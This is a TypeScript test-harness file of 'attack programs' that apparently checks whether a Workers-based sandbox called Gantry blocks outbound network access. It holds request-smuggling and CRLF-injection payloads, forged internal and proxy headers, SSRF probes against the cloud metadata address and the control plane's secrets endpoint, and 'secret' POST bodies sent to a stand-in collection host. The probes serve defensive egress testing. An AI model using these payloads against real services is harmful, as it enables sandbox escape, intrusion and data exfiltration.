import type { AttackProgram } from "./program.ts";

/** By the APIs of the Workers world. */
export const call_programs: readonly AttackProgram[] = [
  {
    name: "urls",
    about: "fetch by every spelling of an address",
    source: `
import { answered } from "./told.js";
export const ways = ({ urls }) =>
  Object.fromEntries(urls.map((url) => ["fetch " + url, async () => answered(await fetch(url, { redirect: "manual" }))]));
`,
  },
  {
    name: "methods",
    about: "calls that would change something, with bodies of every kind",
    source: `
import { answered } from "./told.js";
const bodies = {
  text: () => "secret",
  bytes: () => new Uint8Array(70_000),
  form: () => new URLSearchParams({ a: "secret" }),
  blob: () => new Blob(["secret"]),
  stream: () => new ReadableStream({ pull(c) { c.enqueue(new TextEncoder().encode("secret")); c.close(); } }),
};
export function ways({ host, port, path }) {
  const url = "http://" + host + ":" + port + path;
  const all = {};
  for (const method of ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "QUERY", "PURGE"]) {
    all[method] = async () => answered(await fetch(url, { method }));
  }
  for (const [name, body] of Object.entries(bodies)) {
    all["POST " + name] = async () => answered(await fetch(url, { method: "POST", body: body(), duplex: "half" }));
    all["POST " + name + " to a public host"] = async () =>
      answered(await fetch("https://example.com/collect", { method: "POST", body: body(), duplex: "half" }));
  }
  return all;
}
`,
  },
  {
    name: "forged-headers",
    about: "headers that only Gantry sets, and those of proxies",
    source: `
import { answered } from "./told.js";
const forged = [
  { "gantry-door": "bindings" }, { "gantry-door": "egress" }, { "gantry-stamp": "run_00000000000000000000000000" },
  { "gantry-run": "run_1" }, { "gantry-redirect": "follow" }, { "gantry-replayed": "1" }, { "gantry-egress": "allowed" },
  { "Gantry-Idempotency-Key": "x" }, { "gantry-tenant": "default" }, { host: "example.com" }, { host: "localhost" },
  { forwarded: "for=127.0.0.1;host=localhost" }, { "x-forwarded-for": "127.0.0.1" }, { "x-forwarded-host": "localhost" },
  { "proxy-authorization": "Basic eDp4" }, { connection: "gantry-stamp, close" }, { "transfer-encoding": "chunked, identity" },
  { upgrade: "h2c", connection: "upgrade" }, { "x-original-url": "/admin" }, { authorization: "Bearer gtr_x" },
];
export const ways = ({ host, port, path }) =>
  Object.fromEntries(forged.map((headers) => [JSON.stringify(headers), async () =>
    answered(await fetch("http://" + host + ":" + port + path, { headers }))]));
`,
  },
  {
    name: "smuggling",
    about: "line endings and requests inside of requests",
    source: `
import { answered } from "./told.js";
const inner = "GET /smuggled HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n";
export function ways({ host, port, path }) {
  const url = "http://" + host + ":" + port;
  const with_headers = (headers, method) => async () => answered(await fetch(url + path, { method: method || "POST", headers, body: inner }));
  return {
    "line ending in the path": async () => answered(await fetch(url + path + "%0d%0a" + encodeURIComponent(inner))),
    "line ending in the query": async () => answered(await fetch(url + path + "?a=\\r\\n" + inner)),
    "line ending in a header": async () => answered(await fetch(url + path, { headers: { x: "a\\r\\nHost: localhost" } })),
    "line ending in a name": async () => answered(await fetch(url + path, { headers: { "x\\r\\ny": "a" } })),
    "line ending in the method": async () => answered(await fetch(url + path, { method: "GET /x HTTP/1.1\\r\\nA: b" })),
    "two lengths": with_headers([["content-length", "0"], ["content-length", String(inner.length)]]),
    "length and chunks": with_headers({ "content-length": "0", "transfer-encoding": "chunked" }),
    "odd chunks": with_headers({ "transfer-encoding": "xchunked" }),
    "a body on GET": async () => answered(await fetch(new Request(url + path, { method: "GET", headers: { "content-length": "5" } }))),
    "absolute path": async () => answered(await fetch(url + "/http://127.0.0.1:" + port + path)),
    "authority in the path": async () => answered(await fetch(url + "//127.0.0.1:" + port + path)),
    "dots": async () => answered(await fetch(url + "/a/../.." + path)),
    "encoded dots": async () => answered(await fetch(url + "/a/%2e%2e/%2e%2e" + path)),
    "encoded slash": async () => answered(await fetch(url + "/a%2f..%2f.." + path)),
    "backslash": async () => answered(await fetch(url + "/a\\\\..\\\\" + path)),
  };
}
`,
  },
  {
    name: "websocket",
    about: "WebSockets and event streams",
    source: `
import { answered } from "./told.js";
const settle = (emitter, open, ...failed) => new Promise((resolve, reject) => {
  emitter.addEventListener(open, () => resolve(open));
  for (const name of failed) emitter.addEventListener(name, (event) => reject(new Error(event.message || name)));
});
export function ways({ host, port, path }) {
  const place = host + ":" + port + path;
  return {
    "new WebSocket": () => settle(new WebSocket("ws://" + place), "open", "error", "close"),
    "new WebSocket TLS": () => settle(new WebSocket("wss://" + place), "open", "error", "close"),
    "new WebSocket, public": () => settle(new WebSocket("wss://example.com/"), "open", "error", "close"),
    "upgrade by fetch": async () => answered(await fetch("http://" + place, { headers: { upgrade: "websocket" } })),
    "upgrade by fetch TLS": async () => answered(await fetch("https://" + place, { headers: { upgrade: "websocket" } })),
    "new EventSource": () => settle(new EventSource("http://" + place), "open", "error"),
  };
}
`,
  },
  {
    name: "sockets",
    about: "cloudflare:sockets to hosts, addresses and unix sockets",
    source: `
import { connect } from "cloudflare:sockets";
async function raw(address, options) {
  const socket = connect(address, options);
  const writer = socket.writable.getWriter();
  await writer.write(new TextEncoder().encode("GET /canary HTTP/1.0\\r\\n\\r\\n"));
  const { value } = await socket.readable.getReader().read();
  return value && value.byteLength;
}
export function ways({ host, port, socket, server }) {
  const gantry = new URL(server);
  return {
    "by parts": () => raw({ hostname: host, port }),
    "by text": () => raw(host + ":" + port),
    "by name": () => raw({ hostname: "localhost", port }),
    "IPv6": () => raw({ hostname: "[::1]", port }),
    "mapped IPv6": () => raw({ hostname: "[::ffff:127.0.0.1]", port }),
    "one number": () => raw({ hostname: "2130706433", port }),
    "metadata": () => raw({ hostname: "169.254.169.254", port: 80 }),
    "Gantry itself": () => raw({ hostname: gantry.hostname, port: Number(gantry.port || 80) }),
    "public": () => raw({ hostname: "example.com", port: 443 }),
    "mail": () => raw({ hostname: "example.com", port: 25 }),
    "TLS": () => raw({ hostname: host, port }, { secureTransport: "on" }),
    "startTls": async () => {
      const secure = connect({ hostname: host, port }, { secureTransport: "starttls" }).startTls();
      const { value } = await secure.readable.getReader().read();
      return value && value.byteLength;
    },
    "unix": () => raw("unix:" + (socket || "/run/in.sock")),
    "our own socket": () => raw("unix:/run/out.sock"),
  };
}
`,
  },
  {
    name: "gantry-itself",
    about: "the control plane's own API and metrics",
    source: `
import { answered } from "./told.js";
const paths = ["/", "/readyz", "/metrics", "/v1/runs", "/v1/secrets", "/v1/evidence/entries", "/openapi.json"];
export function ways({ server }) {
  const { port, hostname, protocol } = new URL(server);
  const places = [...new Set([hostname, "127.0.0.1", "localhost", "[::1]", "0.0.0.0"])];
  return Object.fromEntries(places.flatMap((place) => paths.map((path) => {
    const url = protocol + "//" + place + ":" + (port || 80) + path;
    return [url, async () => answered(await fetch(url))];
  })));
}
`,
  },
  {
    name: "late",
    about: "calls that outlive the answer: waitUntil, beacons, caches",
    source: `
import { answered } from "./told.js";
export function ways({ host, port, path }, _env, ctx) {
  const url = "http://" + host + ":" + port + path;
  return {
    "waitUntil": () => ctx.waitUntil(fetch(url + "/waited")),
    "waitUntil, later": () => ctx.waitUntil(new Promise((done) => setTimeout(done, 50)).then(() => fetch(url + "/later"))),
    "nobody waits": () => { fetch(url + "/unwaited").catch(() => {}); },
    "a timer": () => { setTimeout(() => fetch(url + "/timer").catch(() => {}), 20); },
    // Says true and is refused all the same: only the canary can tell.
    "sendBeacon": () => { navigator.sendBeacon(url, "x"); },
    "caches put": async () => {
      await caches.default.put(url, new Response("x"));
      const found = await caches.default.match(url);
      return found && "cached " + found.status;
    },
    "aborted": async () => {
      const stop = new AbortController();
      setTimeout(() => stop.abort(), 1);
      return answered(await fetch(url, { signal: stop.signal }));
    },
  };
}
`,
  },
];
